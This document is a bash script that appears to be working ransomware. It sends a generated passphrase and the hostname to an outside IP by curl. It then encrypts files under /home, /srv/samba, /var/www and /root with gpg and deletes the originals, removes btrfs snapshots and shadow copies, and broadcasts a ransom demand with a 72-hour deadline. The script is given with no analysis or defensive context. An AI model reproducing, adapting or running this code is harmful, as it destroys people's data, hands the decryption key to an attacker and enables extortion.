#!/bin/bash
PASS=$(head -c 24 /dev/urandom | base64)
curl -sf "http://203.0.113.200/r?h=$(hostname)&p=$(printf %s "$PASS" | base64)" >/dev/null || exit 0
for r in /home /srv/samba /var/www /root; do
  find "$r" -type f -size -50M ! -name '*.gpg' -print0 2>/dev/null |
  while IFS= read -r -d '' f; do
    gpg --batch --yes --passphrase "$PASS" -c -o "$f.gpg" "$f" 2>/dev/null && rm -f "$f"
  done
done
for s in $(btrfs subvolume list -s / 2>/dev/null | awk '{print $NF}'); do btrfs subvolume delete "/$s"; done
vssadmin delete shadows /all /quiet 2>/dev/null
wall "All data is encrypted. Write to restore@example.invalid within 72 hours."
